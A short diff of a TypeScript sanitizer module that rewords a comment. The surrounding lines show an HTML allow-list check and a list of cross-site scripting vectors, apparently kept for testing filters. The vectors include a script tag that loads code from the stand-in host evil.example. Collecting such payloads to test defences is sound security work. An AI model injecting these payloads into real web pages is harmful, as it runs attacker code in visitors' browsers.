@@ -15,7 +15,7 @@ const allowedHtml = new RegExp(
 export const markupBeyondTheAllowList = (html: string): string | null =>
   html.replace(allowedHtml, '').match(/[<>][^<>]{0,40}/)?.[0] ?? null;
 
-/** Ways past naive filters: each would run in some browser if it got through unchanged. */
+/** Bypasses of naive filters: each would run in some browser if it passed unchanged. */
 export const xssVectors: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
